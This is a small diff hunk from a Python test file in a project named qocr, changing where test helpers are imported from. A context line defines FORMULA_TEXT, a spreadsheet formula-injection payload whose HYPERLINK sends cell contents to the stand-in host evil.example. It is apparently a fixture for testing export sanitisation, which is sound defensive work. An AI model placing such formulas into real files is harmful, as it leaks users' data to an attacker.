@@ -20,7 +20,7 @@ from qocr.emulator.testing import running_emulator
 from qocr.models import Item, ItemState
 from qocr.models import Result as ResultRow
 from qocr.models.db import make_engine
-from tests.integration.test_reports import API_KEY, invoke, run_batch
+from tests.support.cli_batches import API_KEY, invoke, run_batch
 from tests.support.images import write_pngs
 
 FORMULA_TEXT = '=HYPERLINK("http://evil.example/?"&A1,"click")'
